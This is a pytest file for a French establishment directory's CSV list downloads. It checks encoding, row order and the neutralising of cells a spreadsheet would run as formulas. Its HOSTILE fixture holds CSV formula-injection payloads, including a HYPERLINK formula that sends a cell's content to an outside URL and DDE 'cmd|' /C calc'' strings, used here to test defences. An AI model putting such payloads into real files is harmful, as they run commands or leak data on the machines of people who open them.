"""Lists to download: each list page's establishments as a CSV file a spreadsheet opens.

A list export is read here as a spreadsheet would: UTF-8 with its byte order mark, « ; »
between cells. Its rows are the page's cards, in the page's order; a cell a spreadsheet
would run as a formula is text. The open data CSV is left as it was (exact data).
"""

import csv
import io
from dataclasses import replace
from types import SimpleNamespace
from urllib.parse import unquote

import pytest

from plugins.coopsoc.directory.loader import load_directory
from plugins.coopsoc.typography import typeset_text
from plugins.directory.listexport import COLUMNS, ListExports, csv_line
from plugins.directory.opendata import CSV_COLUMNS
from tests.harness.build import ROOT
from tests.harness.html import read_page

BOM = "\ufeff"
SETTINGS = {"SITEURL": "https://www.example.org", "URL_INDEX": ""}
# Text a spreadsheet would run: a formula, a sum, a command, a tab or a return at the start.
HOSTILE = {
    "egal": '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
    "plus": "+33 4 91 00 00 00",
    "moins": "-2+3+cmd|' /C calc'!A0",
    "arobase": "@SOMME(1+1)*cmd|' /C calc'!A0",
    "tabulation": "\t=1+1",
    "retour": "\r=1+1",
}


def read_list(content: bytes) -> list[dict]:
    """Read a list export as a French spreadsheet does: BOM, then « ; »-separated rows."""
    text = content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def not_updated(directory):
    """No fiche has an update day (they would come from git or « mise_a_jour »)."""
    return dict.fromkeys((e.id for e in directory.establishments), None)


@pytest.fixture(scope="module")
def hostile_directory():
    """The fixture directory, one establishment per hostile name, its association too."""
    directory = load_directory(ROOT / "tests/fixtures/data")
    first = directory.establishments[0]
    establishments = [
        replace(
            first,
            id=f"{first.id}-{key}",
            nom=name,
            association=replace(first.association, nom=name),
        )
        for key, name in HOSTILE.items()
    ]
    return SimpleNamespace(
        establishments=[*directory.establishments, *establishments], sample=directory.sample
    )


def test_a_list_export_opens_in_a_spreadsheet_with_its_rows_and_context(hostile_directory):
    exports = ListExports(hostile_directory, SETTINGS, not_updated(hostile_directory))
    chosen = hostile_directory.establishments[:2]
    export = exports.export("metiers/x/coopsoc-metier-x.csv", "Métier : X", "metiers/x/", chosen)
    assert export.count == 2
    assert export.content.startswith(BOM.encode("utf-8"))
    assert export.content.endswith(b"\r\n")
    rows = read_list(export.content)
    assert tuple(rows[0]) == COLUMNS == (*CSV_COLUMNS, "liste", "liste_url")
    assert [row["id"] for row in rows] == [e.id for e in chosen]
    first = chosen[0]
    assert rows[0]["nom"] == first.nom
    assert rows[0]["donnees_exemple"] == ("oui" if hostile_directory.sample else "non")
    assert rows[0]["latitude"] == repr(first.commune.latitude).replace(".", ",")
    assert rows[0]["travailleurs"] == str(first.travailleurs)
    assert rows[0]["metiers"] == "|".join(t.id for t in first.trades)
    assert rows[0]["url"] == f"https://www.example.org/{first.path}"
    assert (rows[0]["liste"], rows[0]["liste_url"]) == (
        "Métier : X",
        "https://www.example.org/metiers/x/",
    )


def test_cells_a_spreadsheet_would_run_are_kept_as_text(hostile_directory):
    exports = ListExports(hostile_directory, SETTINGS, not_updated(hostile_directory))
    hostile = [e for e in hostile_directory.establishments if e.nom in HOSTILE.values()]
    rows = read_list(exports.export("x.csv", "=1+1", "x/", hostile).content)
    assert len(rows) == len(HOSTILE)
    for row, establishment in zip(rows, hostile, strict=True):
        for column in ("nom", "association"):
            assert row[column] == "'" + establishment.nom, column
        assert row["liste"] == "'=1+1"
    # Every other cell starts as a spreadsheet reads a value, never a formula.
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_a_row_is_written_once_for_the_browser_too(hostile_directory):
    exports = ListExports(hostile_directory, SETTINGS, not_updated(hostile_directory))
    data = exports.browser_data({"ESAT": "Établissement…", "EA": "Entreprise…", "CHRS": "C…"})
    assert data["header"] == csv_line(COLUMNS)
    entries = {entry[0]: entry for entry in data["list"]}
    establishment = hostile_directory.establishments[-1]
    entry = entries[establishment.id]
    assert entry[1] == typeset_text(establishment.nom)
    assert entry[4] == typeset_text(establishment.commune.nom)
    assert entry[5] == [typeset_text(t.nom) for t in establishment.trades]
    assert entry[6] == establishment.path and entry[8] is establishment.deductible
    line = f"{entry[7]};Recherche;https://www.example.org/recherche/"
    rows = read_list((BOM + data["header"] + "\r\n" + line + "\r\n").encode("utf-8"))
    assert rows[0]["nom"] == "'" + establishment.nom


def list_pages(site, directory):
    """Every list page of the build: path → the establishments it lists."""
    pages = {"etablissements/": directory.establishments}
    for kind, establishments in directory.establishments_by_type().items():
        if establishments:
            pages[f"etablissements/type/{kind.lower()}/"] = establishments
    for commune, establishments in directory.establishments_by_commune().items():
        pages[commune.path] = establishments
    for filiere in directory.filieres:
        pages[filiere.path] = directory.establishments_for_filiere(filiere.id)
        for trade in filiere.trades:
            pages[trade.path] = directory.establishments_for_trade(trade.id)
    return pages


def test_every_list_page_offers_its_cards_as_a_csv_file(site, directory):
    pages = list_pages(site, directory)
    assert len(pages) > 10
    for path, establishments in pages.items():
        page = read_page(site / path / "index.html")
        link = page.one(".cs-list-download a")
        assert link.get("type") == "text/csv" and "download" in link.attrs
        assert "données d’exemple" in page.one(".cs-list-download").text
        target = (site / path / unquote(link.get("href"))).resolve()
        rows = read_list(target.read_bytes())
        cards = [a.get("href").split("/")[-2] for a in page.select(".cs-card__title a")]
        assert [row["id"] for row in rows] == cards == [e.id for e in establishments], path
        assert f"{len(establishments)}" in link.text
        assert {row["liste_url"] for row in rows} <= {f"{path}index.html"}


def test_the_open_data_csv_keeps_its_exact_format(site, directory):
    content = (site / "donnees/etablissements.csv").read_bytes()
    assert not content.startswith(BOM.encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    first = directory.establishments[0]
    assert rows[0]["latitude"] == str(first.commune.latitude)
